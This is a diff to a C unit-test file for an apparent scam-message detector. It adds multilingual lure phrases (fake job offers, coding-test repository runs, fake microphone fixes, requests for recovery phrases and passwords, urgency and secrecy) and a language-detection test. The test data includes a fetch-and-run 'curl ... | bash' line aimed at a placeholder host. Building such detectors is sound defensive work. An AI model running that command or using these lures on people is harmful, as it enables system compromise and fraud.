@@ -23,13 +23,13 @@ static const struct {
 	{ "Press Windows + R, then Ctrl+V and Enter.", ASK_RUN },
 	{ "curl -fsSL https://x.example/i | bash", ASK_RUN | ASK_LINK },
 	{ "Please copy and paste this short command into your terminal", ASK_RUN },
-	{ "Clone the repository and run it before our call.", ASK_RUN },
+	{ "Clone the repository and run it before our call.", ASK_RUN | ASK_TEST },
 	{ "Then click Enable Editing, Enable Content.", ASK_RUN },
 	{ "Bitte laden Sie die App herunter.", ASK_RUN },
 	{ "マクロを有効にしてください", ASK_RUN },
 	/* secret */
 	{ "Enter your 12-word recovery phrase to go on.", ASK_SECRET },
-	{ "Please verify your\n   wallet within 24 hours", ASK_SECRET },
+	{ "Please verify your\n   wallet within 24 hours", ASK_SECRET | ASK_HURRY },
 	{ "Kindly reply with your password.", ASK_SECRET },
 	{ "If you do not confirm your password, it is lost.", ASK_SECRET },
 	{ "Do not panic. Confirm your password here.", ASK_SECRET },
@@ -55,6 +55,97 @@ static const struct {
 	{ "The password is Tk42x.", ASK_LOCKED },
 	{ "Archive password: 2026", ASK_LOCKED },
 	{ "解凍パスワードは別途お知らせします。", ASK_LOCKED },
+	/* before the harm */
+	{ "I came across your profile on a job site.", ASK_OFFER },
+	{ "Senior developer (remote position), 120 USD per hour", ASK_OFFER },
+	{ "The next step is a short coding assessment.", ASK_TEST },
+	{ "Please clone our repository before the interview.", ASK_TEST },
+	{ "Your microphone is blocked by the browser.", ASK_FIX },
+	{ "We can't hear you.", ASK_FIX },
+	{ "I need it within 24 hours.", ASK_HURRY },
+	{ "Please keep this strictly confidential.", ASK_QUIET },
+	{ "Do not tell anyone about it.", ASK_QUIET },
+	/* French */
+	{ "Copiez et collez la commande suivante dans le terminal.", ASK_RUN },
+	{ "Pour télécharger l’application, voir plus bas.", 0 },
+	{ "Téléchargez l’application.", ASK_RUN },
+	{ "Saisissez votre phrase de récupération.", ASK_SECRET },
+	{ "Ne communiquez jamais votre mot de passe.", 0 },
+	{ "Nos coordonnées bancaires ont changé.", ASK_PAY },
+	{ "Écrivez-moi sur Telegram.", ASK_MOVE },
+	{ "Mot de passe : a81x", ASK_LOCKED },
+	{ "Une offre d’emploi pour vous", ASK_OFFER },
+	{ "Nous vous proposons un test technique.", ASK_TEST },
+	{ "Votre micro ne fonctionne pas.", ASK_FIX },
+	{ "Répondez dans les 24 heures.", ASK_HURRY },
+	{ "C'est strictement confidentiel.", ASK_QUIET },
+	/* Spanish */
+	{ "Copie y pegue este comando.", ASK_RUN },
+	{ "Introduzca su frase de recuperación.", ASK_SECRET },
+	{ "Nunca comparta su contraseña.", 0 },
+	{ "No le pedimos que introduzca su contraseña.", 0 },
+	{ "Realice el pago hoy.", ASK_PAY },
+	{ "Hablemos por Telegram.", ASK_MOVE },
+	{ "Contraseña: 2026ab", ASK_LOCKED },
+	{ "Una oferta de empleo", ASK_OFFER },
+	{ "La prueba técnica dura una hora.", ASK_TEST },
+	{ "El micrófono no funciona.", ASK_FIX },
+	{ "Responda lo antes posible.", ASK_HURRY },
+	{ "Es estrictamente confidencial.", ASK_QUIET },
+	{ "El código fuente está en el repositorio.", 0 },
+	/* Russian, in capitals too */
+	{ "Выполните эту "
+	  "команду.",
+		ASK_RUN },
+	{ "ВВЕДИТЕ СИД-ФРАЗУ", ASK_SECRET },
+	{ "Никогда не сообщайте пароль.", 0 },
+	{ "Оплатите счёт сегодня.", ASK_PAY },
+	{ "Напишите мне в Телеграм.", ASK_MOVE },
+	{ "Пароль от архива в следующем письме", ASK_LOCKED },
+	{ "Ваше резюме нас заинтересовало.", ASK_OFFER },
+	{ "Выполните тестовое задание.", ASK_TEST },
+	{ "Микрофон не работает.", ASK_FIX },
+	{ "Это срочно.", ASK_HURRY },
+	{ "Никому не говорите об этом.", ASK_QUIET },
+	{ "Команда выполняется долго.", 0 },
+	/* Korean */
+	{ "아래 명령어를 실행해 주세요.", ASK_RUN },
+	{ "복구 문구를 입력해 주세요.", ASK_SECRET },
+	{ "비밀번호를 입력하지 마세요.", 0 },
+	{ "절대 비밀번호를 알려 주는 일은 없습니다.", 0 },
+	{ "입금 계좌가 변경되었습니다.", ASK_PAY },
+	{ "텔레그램으로 연락 주세요.", ASK_MOVE },
+	{ "파일 비밀번호는 별도로 알려 드립니다.", ASK_LOCKED },
+	{ "채용 담당자입니다.", ASK_OFFER },
+	{ "코딩 테스트가 있습니다.", ASK_TEST },
+	{ "마이크가 작동하지 않습니다.", ASK_FIX },
+	{ "긴급합니다.", ASK_HURRY },
+	{ "아무에게도 말하지 말아 주세요.", ASK_QUIET },
+	{ "명령어 목록은 설명서에 있습니다.", 0 },
+	/* Chinese */
+	{ "请运行以下命令。", ASK_RUN },
+	{ "请输入您的助记词。", ASK_SECRET },
+	{ "请勿向他人提供密码。", 0 },
+	{ "收款账户已变更。", ASK_PAY },
+	{ "请加我微信。", ASK_MOVE },
+	{ "解压密码是8842", ASK_LOCKED },
+	{ "高薪远程工作", ASK_OFFER },
+	{ "请完成编程测试。", ASK_TEST },
+	{ "您的麦克风无法使用。", ASK_FIX },
+	{ "请尽快回复。", ASK_HURRY },
+	{ "不要告诉任何人。", ASK_QUIET },
+	{ "密码学是一门学科。", 0 },
+	/* German and Japanese */
+	{ "Wir suchen Entwickler.", ASK_OFFER },
+	{ "Die Testaufgabe liegt bei.", ASK_TEST },
+	{ "Ihr Mikrofon ist blockiert.", ASK_FIX },
+	{ "Bitte antworten Sie umgehend.", ASK_HURRY },
+	{ "Bitte vertraulich behandeln.", ASK_QUIET },
+	{ "プロフィールを拝見しました。", ASK_OFFER },
+	{ "コーディングテストを受けてください。", ASK_TEST },
+	{ "マイクが動作しません。", ASK_FIX },
+	{ "至急ご返信ください。", ASK_HURRY },
+	{ "他言無用でお願いします。", ASK_QUIET },
 	/* links */
 	{ "see https://x.example/", ASK_LINK },
 	{ "see www.x.example", ASK_LINK },
@@ -89,13 +180,17 @@ static const struct {
 static void test_texts(void **state)
 {
 	(void)state;
+	size_t wrong = 0;
 	struct arena *a = arena_create(1 << 22);
 	for (size_t i = 0; i < sizeof(texts) / sizeof(*texts); i++) {
 		unsigned asks = asks_in_text(a, span_from_cstr(texts[i].text));
-		if (asks != texts[i].asks)
-			fail_msg("%s: %x", texts[i].text, asks);
+		if (asks == texts[i].asks)
+			continue;
+		print_error("%s: %x\n", texts[i].text, asks);
+		wrong++;
 	}
 	arena_destroy(&a);
+	assert_int_equal(wrong, 0);
 }
 
 static const struct {
@@ -261,6 +356,47 @@ static void test_phrases_are_folded(void **state)
 	arena_destroy(&a);
 }
 
+static void test_languages(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *text;
+		enum phrase_listed listed;
+	} rows[] = {
+		{ "", LANGUAGE_LISTED },
+		{ "Dobar dan, ovo je kratko.", LANGUAGE_LISTED },
+		{ "We would like to hear from you about the report that was sent to all "
+		  "members of the board in the first week of the month.",
+			LANGUAGE_LISTED },
+		{ "Wir haben den Bericht gelesen und möchten uns bei Ihnen für die "
+		  "Arbeit "
+		  "bedanken, die Sie und das ganze Team in diesem Jahr geleistet haben.",
+			LANGUAGE_LISTED },
+		{ "Мы прочитали ваш отчет и хотим поблагодарить вас за работу, которую "
+		  "вы "
+		  "и ваша команда сделали в этом году, но у нас есть вопросы.",
+			LANGUAGE_LISTED },
+		{ "우리는 보고서를 읽었습니다. 귀하의 팀이 올해 한 일에 감사드립니다.",
+			LANGUAGE_LISTED },
+		{ "We hebben het verslag gelezen en willen je bedanken voor het werk dat "
+		  "jij en het hele team dit jaar voor ons hebben gedaan.",
+			LANGUAGE_UNLISTED },
+		{ "Olemme lukeneet raportin ja haluamme kiittää teitä työstä, jonka te "
+		  "ja "
+		  "koko tiimi olette tehneet tänä vuonna meidän hyväksemme Suomessa.",
+			LANGUAGE_UNLISTED },
+		{ "Lemos o relatório e queremos agradecer pelo trabalho que você e a "
+		  "equipe fizeram neste ano, mas não temos como pagar o valor.",
+			LANGUAGE_UNLISTED },
+	};
+	struct arena *a = arena_create(1 << 22);
+	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++)
+		if (phrase_language_of(phrase_fold(a, span_from_cstr(rows[i].text))) !=
+			rows[i].listed)
+			fail_msg("%s", rows[i].text);
+	arena_destroy(&a);
+}
+
 static void test_html(void **state)
 {
 	(void)state;
@@ -279,7 +415,7 @@ static void test_html(void **state)
 		{ "<form action=\"https://x.example\">", " <https://x.example> " },
 		{ "a<!-- b", "a" },
 		{ "a<b", "a" },
-		{ "co&shy;de &eacute;", "code \u00e9" },
+		{ "co&shy;de &eacute;", "code é" },
 	};
 	struct arena *a = arena_create(1 << 22);
 	struct html_options options = { .max = 1000 };
@@ -299,6 +435,7 @@ int main(void)
 		cmocka_unit_test(test_files),
 		cmocka_unit_test(test_letters),
 		cmocka_unit_test(test_phrases_are_folded),
+		cmocka_unit_test(test_languages),
 		cmocka_unit_test(test_html),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
